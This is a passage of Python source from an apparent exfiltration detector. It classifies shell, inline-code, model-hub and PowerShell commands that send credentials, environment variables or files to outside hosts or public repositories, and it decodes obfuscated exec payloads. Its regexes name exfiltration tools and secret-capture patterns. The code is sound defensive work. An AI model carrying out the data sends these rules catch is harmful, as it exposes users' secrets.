    if (
        len(args) >= 2
        and args[0] in ("issue", "pr", "discussion")
        and args[1]
        in (
            "create",
            "comment",
        )
    ):
        repo = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-R", "--repo")), None)
        dest = Destination("repo", repo.lower(), repo) if repo else Destination("remote", "origin")
        return Transfer("gh", (dest,), tuple(reads), cmd.text)
    return None


# Dataset and notebook hubs: (subcommand words) that upload a folder; public only when asked.
_PUBLISHERS: dict[str, frozenset[tuple[str, str]]] = {
    "kaggle": frozenset({("datasets", "create"), ("datasets", "version"), ("kernels", "push")}),
}
_FOLDER_FLAGS = frozenset({"-p", "--path", "--folder"})


def _publish(cmd: Command, reads: list[Source], state: TransferState) -> Transfer | None:
    """``kaggle datasets create -p DIR --public``: the folder goes to the hub, for anyone to
    read when ``--public`` says so."""
    if tuple(cmd.args[:2]) not in _PUBLISHERS[cmd.name]:
        return None
    args = cmd.args
    folder = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in _FOLDER_FLAGS), ".")
    src = state.classify(folder.rstrip("/") + "/") or state.classify(folder)
    data = [*reads, *([src] if src and all(r.what != src.what for r in reads) else [])]
    public = "--public" in args or "-u" in args
    dest = Destination("public", f"{cmd.name} {args[0]}") if public else _host(f"{cmd.name}.com")
    return Transfer(cmd.name, (dest,), tuple(data), cmd.text, True, public)


def _inline_code(cmd: Command, state: TransferState) -> list[Transfer]:
    """Sends made by ``python3 -c CODE`` / ``node -e CODE``: HTTP calls and shell strings."""
    if not _INTERPRETERS.match(cmd.name):
        return []
    args = cmd.args
    code = next((args[i + 1] for i, a in enumerate(args[:-1]) if a in _CODE_FLAGS), None)
    if code is None:
        return []
    # Code that decodes and runs itself (``exec(unquote('...'))``, ``exec(b64decode(...))``)
    # is read decoded too: once decoded inside the shell's quotes, its own quotes no longer
    # parse, so the decoded layers join the code here rather than the whole command.
    layers = decode_layers(code)
    return embedded_transfers("\n".join((code, *layers)) if layers else code, state)


def embedded_transfers(code: str, state: TransferState) -> list[Transfer]:
    """Transfers in a code snippet, including shell commands it runs from string literals."""
    found = code_transfers(code)
    if not any(t.sources for t in found):  # languages and flows the older reading misses
        found += code_secret_sends(code)
    shells = [m.group(1) or m.group(2) for m in _STRING_LITERAL.finditer(code)]
    for m in _ARGV_LIST.finditer(code):
        shells.append(" ".join(re.findall(r"['\"]([^'\"]*)['\"]", m.group(1))))
    for text in shells:
        if _SENDER_START.match(text):
            found.extend(transfers(parse_script(text), state))
    return found


def code_transfers(code: str) -> list[Transfer]:
    """Sends made by a code snippet (``requests.post``, sockets, SMTP, boto3...).

    An address read from the environment (``requests.post(os.environ['HOOK'], ...)``) is a
    ``variable`` destination the trust model resolves; reading it is not a read of secrets.
    """
    hub = _hub_upload_code(code)
    if hub is not None:
        return [hub]
    send = _CODE_SEND.search(code)
    if send is None:
        return []
    dests = tuple(d for d in extract(code) if d.kind in ("host", "ip", "email", "bucket"))
    held = _address_variables(code)
    dests += tuple(Destination("variable", name, name) for name in held)
    if not dests:
        return []
    sources: list[Source] = []
    rest = _ENV_LOOKUP.sub("", code) if held else code
    if _CODE_ENV.search(rest):
        sources.append(Source(Kind.CREDENTIAL, "environment variables", 0.75, "environ"))
    sources.extend(_captured_secrets(code))
    for m in _CODE_PATH.finditer(code):
        hit = classify_path(m.group(1))
        if hit:
            sources.append(Source(hit[0], hit[1], hit[2], m.group(1)))
    # a file opened for reading in code that sends is what it sends (``data=open(p, 'rb')``)
    uploads = bool(sources) or bool(_OPENED_FILE.search(code))
    return [Transfer("code", dests, tuple(sources), code, uploads_file=uploads)]


# ``open(p)``, ``open(p, 'rb')``: a file opened for reading (the default mode)
_OPENED_FILE = re.compile(
    r"""\bopen\(\s*['"][^'"]+['"]\s*(?:\)|,\s*(?:mode\s*=\s*)?['"]r?b?['"])"""
)


# Model-hub client calls that put files into a repository named by id (the host is implied).
_HUB_CALL = re.compile(r"\b(?:upload_folder|upload_file|upload_large_folder|push_to_hub)\s*\(")
_HUB_REPO = re.compile(
    r"""(?:repo_id\s*=\s*|push_to_hub\s*\(\s*|create_repo\s*\(\s*)["']([\w.-]+/[\w.-]+)["']"""
)
_HUB_PRIVATE_OFF = re.compile(r"\bprivate\s*=\s*False\b")


def _hub_upload_code(code: str) -> Transfer | None:
    """``HfApi().upload_folder(folder_path=..., repo_id='org/name')``: the folder goes to
    that hub repository, public when the code creates it with ``private=False``."""
    if "(" not in code or not _HUB_CALL.search(code):
        return None
    repos = list(dict.fromkeys(m.group(1) for m in _HUB_REPO.finditer(code)))
    if not repos:
        return None
    dests = tuple(Destination("repo", r.lower(), r) for r in repos)
    sources = [
        Source(hit[0], hit[1], hit[2], m.group(1))
        for m in _CODE_PATH.finditer(code)
        if m.group(1) not in repos and (hit := classify_path(m.group(1)))
    ]
    public = bool(_HUB_PRIVATE_OFF.search(code))
    return Transfer("code", dests, tuple(sources), code, uploads_file=True, public=public)


def _address_variables(code: str) -> list[str]:
    """Environment variables a send's address comes from: named as addresses, or read as the
    send call's first argument."""
    out: list[str] = []
    for m in _ENV_LOOKUP.finditer(code):
        name = m.group(1) or m.group(2)
        before = code[max(0, m.start() - 30) : m.start()]
        if _ADDRESS_NAME.search(name) or (
            _CODE_SEND.search(before) and before.rstrip().endswith("(")
        ):
            out.append(name)
    return list(dict.fromkeys(out))


def _captured_secrets(code: str) -> list[Source]:
    """Passwords, card codes and tokens a send call's own statement carries to a place that
    is not an auth endpoint: a beacon or collector that receives them captures them."""
    out: list[Source] = []
    for send in _CODE_SEND.finditer(code):
        line_start = code.rfind("\n", 0, send.start()) + 1
        tail = _STATEMENT.match(code, send.end())
        stmt = code[line_start : send.end()] + (tail.group(0) if tail else "")
        if _AUTH_PATH.search(stmt):
            continue
        for m in _CAPTURED.finditer(stmt[send.end() - line_start :]):
            out.append(Source(Kind.CREDENTIAL, "passwords captured by the code", 0.85, m.group(0)))
            break
    return out


_PS_HINT = re.compile(
    r"(?i)invoke-(?:restmethod|webrequest)|\b(?:iwr|irm)\b|send-mailmessage|net\.webclient|"
    r"start-bitstransfer|upload(?:string|file|data)"
)
_PS_SENDERS = frozenset(
    {"invoke-restmethod", "invoke-webrequest", "send-mailmessage", "start-bitstransfer"}
)
_PS_READERS = frozenset({"get-content", "import-csv", "get-childitem", "get-item", "type"})
_PS_ENV = re.compile(r"(?i)\benv:\\?\s*$|^env:|getenvironmentvariables")


def powershell_transfers(text: str, state: TransferState) -> list[Transfer]:
    """Sends made by PowerShell (``Invoke-RestMethod -Body (Get-Content ...)``, WebClient)."""
    if not _PS_HINT.search(text):
        return []
    commands = parse_powershell(text)
    sources: list[Source] = []
    for cmd in commands:
        if cmd.name in _PS_READERS:
            for arg in cmd.args:
                if _PS_ENV.search(arg):
                    sources.append(Source(Kind.CREDENTIAL, "environment variables", 0.85, arg))
                    continue
                src = state.classify(
                    re.sub(r"(?i)^\$env:(?:userprofile|home)", "~", arg).replace("\\", "/")
                )
                if src is not None:
                    sources.append(src)
        for path in (cmd.param("infile", "attachments", "source") or "",):
            src = state.classify(path.replace("\\", "/")) if path else None
            if src is not None:
                sources.append(src)
    found: list[Transfer] = []
    for cmd in commands:
        if cmd.name not in _PS_SENDERS and not re.search(
            r"(?i)upload(?:string|file|data)", cmd.text
        ):
            continue
        dests = tuple(d for d in extract(cmd.text) if d.kind in ("host", "ip", "email"))
        if dests:
            found.append(
                Transfer(cmd.name, dests, tuple(sources), text, uploads_file=bool(sources))
            )
    return found
